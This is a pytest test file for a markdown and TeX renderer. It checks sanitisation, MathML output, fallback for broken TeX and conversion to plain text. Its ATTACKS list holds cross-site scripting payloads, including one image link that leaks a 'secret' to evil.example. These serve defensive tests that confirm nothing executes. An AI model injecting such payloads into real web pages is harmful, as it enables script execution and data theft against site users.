import re

import pytest

from adaptive.pages.markdown import plain_text, render_block, render_inline, tex_to_text

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![steal](https://evil.example/?q=secret)",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<svg onload="alert(1)">',
    "`<b onmouseover=alert(1)>`",
    '[x](https://example.org "onmouseover=alert(1)")',
    "<iframe src=https://evil.example></iframe>",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("render", [render_block, render_inline])
def test_hostile_text_runs_nothing_and_calls_nobody(attack, render):
    html = render(attack)
    tags = re.findall(r"<\s*([a-zA-Z0-9]+)([^>]*)>", html)
    assert not {name.lower() for name, _ in tags} & {"script", "img", "style", "iframe", "svg", "object", "form"}
    for _, attributes in tags:
        assert not re.search(r"\bon\w+\s*=|javascript:|data:|style\s*=", attributes, re.I)


def test_a_fraction_becomes_mathml():
    html = render_inline("$\\frac{3}{4}$ cup")
    assert "<mfrac>" in html and "<math" in html and html.endswith("cup")


def test_display_mathematics_scrolls_in_itself():
    assert '<div class="scroll" tabindex="0"><math display="block">' in render_block("$$\\frac{a}{b}$$")


@pytest.mark.parametrize("tex", ["\\frac{1}{", "\\nosuchcommand{x}", "{" * 3000, "\\begin{matrix}1", "\\left( x"])
def test_bad_tex_shows_as_code_and_is_never_an_error(tex):
    assert "Traceback" not in render_block(f"before ${tex}$ after")
    assert "before" in render_block(f"before ${tex}$ after")


def test_unknown_tex_shows_as_it_was_written():
    assert render_inline("$\\nosuchcommand$") == '<code class="tex">\\nosuchcommand</code>'


def test_money_is_not_mathematics():
    assert render_inline("It costs $5 and $6.") == "It costs $5 and $6."


def test_headings_leave_the_first_level_to_the_page():
    assert render_block("# Title").strip() == "<h2>Title</h2>"


def test_links_of_authors_stay_but_tell_nobody_where_they_come_from():
    assert 'rel="noopener noreferrer nofollow"' in render_inline("[a](https://example.org)")


@pytest.mark.parametrize(
    ("tex", "text"),
    [
        ("\\frac{3}{4}", "3/4"),
        ("1\\frac{1}{2}", "1 1/2"),
        ("\\frac{x+1}{2}", "(x+1)/2"),
        ("x^2", "x²"),
        ("3 \\times 4", "3 × 4"),
        ("\\sqrt{2}", "√2"),
        ("5\\,\\Omega", "5 Ω"),
        ("a \\le b", "a ≤ b"),
    ],
)
def test_mathematics_in_plain_text(tex, text):
    assert tex_to_text(tex) == text


def test_plain_text_is_one_line_without_marks():
    assert plain_text("**Bold** and $\\frac{1}{2}$\n\n- item [[1]]") == "Bold and 1/2 item 1"
